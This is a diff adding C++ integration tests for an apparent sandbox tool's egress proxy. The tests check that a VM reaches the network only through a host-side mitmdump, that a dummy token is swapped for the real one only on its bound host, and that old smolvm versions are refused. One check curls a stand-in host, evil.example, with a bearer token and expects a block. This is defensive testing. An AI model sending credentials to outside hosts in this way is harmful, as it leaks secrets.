@@ -1,0 +1,186 @@
+// Egress for smolmachines bottles: bottle-cli against the fake smolvm (1.9.2, which
+// can confine a VM to the gateway), a real host-side mitmdump with bottle's addons,
+// and a fake HTTPS upstream behind a stand-in parent proxy, all on 127.0.0.1.
+// The fake smolvm does not emulate the VM's network: the test plays the guest's
+// connection to the gateway 100.96.0.1:PORT as smolvm relays it, to host
+// 127.0.0.1:PORT. Token values are test strings; assertions test booleans.
+#include <catch2/catch.hpp>
+
+#include <boost/json.hpp>
+#include <csignal>
+
+#include "../unit/temp_dir.hpp"
+#include "cli_harness.hpp"
+#include "net_harness.hpp"
+
+namespace fs = std::filesystem;
+using namespace net_harness;
+
+namespace {
+
+const std::string real_token = "real-smol-token-0001";
+const std::string dummy = "dummy-smol-token-0001";
+
+void use_fake_smolvm(IntegrationHome& home, const std::string& version) {
+  const auto bin = home.path() / "bin";
+  fs::create_directories(bin);
+  fs::create_symlink(test_paths::fake_smolvm, bin / "smolvm");
+  const char* path = std::getenv("PATH");
+  home.env()["PATH"] = bin.string() + ":" + (path ? path : "/usr/bin:/bin");
+  home.env()["FAKE_SMOLVM_STATE"] = (home.path() / "fake-state").string();
+  home.env()["FAKE_SMOLVM_LOG"] = (home.path() / "fake.log").string();
+  home.env()["FAKE_SMOLVM_VERSION"] = version;
+  home.env()["BOTTLE_PTY_RESIZE"] = test_paths::pty_resize;
+}
+
+std::string spec_json(const std::string& name, const fs::path& token_file) {
+  return boost::json::serialize(boost::json::value{
+      {"name", name}, {"backend", "smolmachines"}, {"user", "nobody"},
+      {"egress", {{"routes", boost::json::array{boost::json::object{
+                                 {"name", "smolapi"}, {"hosts", boost::json::array{"chatgpt.com"}},
+                                 {"header", "Authorization"}, {"dummy", dummy},
+                                 {"value_file", token_file.string()}}}}}}});
+}
+
+// The fake smolvm runs "guest" commands on the host: the CA bundle that create
+// installs at /etc/bottle goes to a private tmpfs, not the host's /etc.
+std::vector<std::string> in_private_etc_bottle(std::vector<std::string> argv) {
+  std::vector<std::string> wrapped = {"unshare", "--mount", "--propagation", "private", "sh", "-c",
+                                      "mount -t tmpfs tmpfs /etc/bottle && exec \"$@\"", "sh"};
+  wrapped.insert(wrapped.end(), argv.begin(), argv.end());
+  return wrapped;
+}
+
+fs::path find_file(const fs::path& root, const std::string& file_name) {
+  for (const auto& entry : fs::recursive_directory_iterator(root))
+    if (entry.path().filename() == file_name) return entry.path();
+  return {};
+}
+
+std::string egress_of(IntegrationHome& home, const std::string& name) {
+  const auto rows = boost::json::parse(home.cli({"ls", "--json"}).out).as_array();
+  for (const auto& row : rows)
+    if (row.at("name") == name.c_str()) return std::string(row.at("egress").as_string());
+  return "<no row>";
+}
+
+pid_t pid_in(const fs::path& pid_file) {
+  const std::string text = read_file(pid_file);
+  return text.empty() ? 0 : static_cast<pid_t>(std::stol(text));
+}
+
+}  // namespace
+
+TEST_CASE("smolmachines egress: a host-side mitmdump is the bottle's only way out",
+          "[smolmachines][egress][integration]") {
+  TempDir net;
+  make_certs(net.path());
+  Daemon fake_net({"python3", fake_net_script(), "serve", (net.path() / "server.pem").string(),
+                   (net.path() / "server.key").string(), (net.path() / "ports.json").string(),
+                   (net.path() / "upstream.log").string(), (net.path() / "parent.log").string()},
+                  net.path() / "fake_net.out");
+  REQUIRE(wait_until([&] { return fs::exists(net.path() / "ports.json"); }, 20s));
+  const auto parent = boost::json::parse(read_file(net.path() / "ports.json")).at("parent").as_int64();
+  const fs::path token_file = net.path() / "token";
+  write_file(token_file, real_token + "\n");
+
+  IntegrationHome home;
+  use_fake_smolvm(home, "1.9.2");
+  home.env()["BOTTLE_EGRESS_UPSTREAM"] = "http://127.0.0.1:" + std::to_string(parent);
+  home.env()["BOTTLE_EGRESS_UPSTREAM_CA"] = (net.path() / "ca.pem").string();
+  const std::string name = unique_bottle_name("it-smolegress");
+  write_file(home.path() / "spec.json", spec_json(name, token_file));
+  fs::create_directories("/etc/bottle");  // the private tmpfs's mount point
+
+  auto r = home.run(in_private_etc_bottle({test_paths::bottle_cli, "create", "--spec",
+                                           (home.path() / "spec.json").string()}));
+  INFO(r.err);
+  REQUIRE(r.ok());
+
+  // The stored spec keeps the port picked at create; the VM may reach only the gateway.
+  const auto shown = boost::json::parse(home.cli({"config", "show", name}).out);
+  const auto port = static_cast<std::uint16_t>(shown.at("egress").at("port").as_int64());
+  CHECK(port != 0);
+  const std::string fake_log = read_file(home.path() / "fake.log");
+  CHECK(contains(fake_log, R"("--net","--net-backend","virtio-net","--allow-cidr","100.96.0.1/32")"));
+  r = home.cli({"exec", name, "--", "sh", "-c", "echo \"$HTTPS_PROXY $NO_PROXY\""});
+  CHECK(r.out == "http://100.96.0.1:" + std::to_string(port) + " localhost,127.0.0.1,::1\n");
+
+  // egress runs, supervised, on loopback only; its argv has no secret.
+  const fs::path pid_file = find_file(home.path(), "mitmdump.pid");
+  REQUIRE_FALSE(pid_file.empty());
+  const pid_t egress_pid = pid_in(pid_file);
+  CHECK(read_file("/proc/" + std::to_string(egress_pid) + "/comm") == "mitmdump\n");
+  const std::string cmdline = read_file("/proc/" + std::to_string(egress_pid) + "/cmdline");
+  CHECK(contains(cmdline, std::string("127.0.0.1") + '\0' + "--listen-port" + '\0' + std::to_string(port)));
+  CHECK_FALSE(contains(cmdline, real_token));
+  CHECK(egress_of(home, name) == "on");
+
+  // What the guest sends to the gateway: the dummy is swapped on its bound host and
+  // blocked anywhere else.
+  const fs::path egress_ca = find_file(home.path(), "mitmproxy-ca-cert.pem");
+  REQUIRE_FALSE(egress_ca.empty());
+  const auto curl = [&](const std::string& url) {
+    return run({"curl", "-sS", "--max-time", "20", "--noproxy", "", "--proxy",
+                "http://127.0.0.1:" + std::to_string(port), "--cacert", egress_ca.string(), "-o", "/dev/null",
+                "-w", "%{http_code}", "-H", "Authorization: Bearer " + dummy, url})
+        .out;
+  };
+  CHECK(curl("https://chatgpt.com/smol-swap") == "200");
+  CHECK(curl("https://evil.example/smol-leak") == "403");
+  const std::string upstream = read_file(net.path() / "upstream.log");
+  CHECK(contains(upstream, "\"Bearer " + real_token + "\""));
+  CHECK_FALSE(contains(upstream, "/smol-leak"));
+  CHECK_FALSE(contains(upstream, dummy));
+
+  // stop takes egress down with the VM.
+  r = home.cli({"stop", name});
+  INFO(r.err);
+  REQUIRE(r.ok());
+  CHECK(wait_until([&] { return !port_open(port); }, 10s));
+  CHECK(::kill(egress_pid, 0) != 0);
+  CHECK(egress_of(home, name) == "down");
+
+  // Someone else listening on the bottle's port: start refuses (exit 6), the VM stays down.
+  {
+    const int squatter = ::socket(AF_INET, SOCK_STREAM, 0);
+    auto address = loopback(port);
+    REQUIRE(::bind(squatter, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0);
+    REQUIRE(::listen(squatter, 1) == 0);
+    r = home.cli({"start", name});
+    ::close(squatter);
+    CHECK(r.code == 6);
+    CHECK(contains(r.err, "in use by another process"));
+    CHECK(contains(home.cli({"ls", "--json"}).out, "\"state\":\"stopped\""));
+  }
+
+  r = home.run(in_private_etc_bottle({test_paths::bottle_cli, "start", name}));
+  INFO(r.err);
+  REQUIRE(r.ok());
+  CHECK(egress_of(home, name) == "on");
+  CHECK(curl("https://chatgpt.com/smol-after-restart") == "200");
+
+  r = home.cli({"rm", "--force", name});
+  INFO(r.err);
+  REQUIRE(r.ok());
+  CHECK(wait_until([&] { return !port_open(port); }, 10s));
+  CHECK(home.cli({"ls", "--json"}).out == "[]\n");
+}
+
+TEST_CASE("smolmachines egress: an smolvm that cannot confine the VM gets no bottle that needs egress",
+          "[smolmachines][egress][integration]") {
+  for (const std::string version : {"0.8.0", "1.0.2"}) {
+    DYNAMIC_SECTION("smolvm " << version) {
+      TempDir host;
+      IntegrationHome home;
+      use_fake_smolvm(home, version);
+      const std::string name = unique_bottle_name("it-smolold");
+      write_file(home.path() / "spec.json", spec_json(name, host.path() / "token"));
+      const auto r = home.cli({"create", "--spec", (home.path() / "spec.json").string()});
+      CHECK(r.code == 6);
+      CHECK(contains(r.err, "smolvm " + version + " cannot confine a VM's network to egress"));
+      CHECK(home.cli({"ls", "--json"}).out == "[]\n");
+      CHECK(find_file(home.path(), "mitmdump.pid").empty());
+    }
+  }
+}
